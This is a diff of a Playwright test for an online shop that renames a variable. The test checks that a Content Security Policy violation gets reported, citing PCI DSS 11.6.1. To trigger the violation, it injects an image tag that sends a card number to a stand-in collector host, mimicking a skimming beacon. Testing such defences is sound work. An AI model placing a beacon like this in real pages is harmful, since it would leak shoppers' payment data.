@@ -6,7 +6,7 @@ import { wishes } from './shop/wishes'
 test('a policy violation of a page is reported to the shop (PCI DSS 11.6.1)', { tag: '@scripts' }, async ({ page }) => {
   const { brand, locale } = wishes.jacketInTheStates
   await page.goto(originOf(brand) + href('home', { locale }))
-  const told = page.context().waitForEvent('response', (response) => response.url().endsWith('/fapi/policy/report'))
+  const responding = page.context().waitForEvent('response', (response) => response.url().endsWith('/fapi/policy/report'))
   await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="https://collect.example/card.png?number=1" alt="">'))
-  expect((await told).status()).toBe(204)
+  expect((await responding).status()).toBe(204)
 })
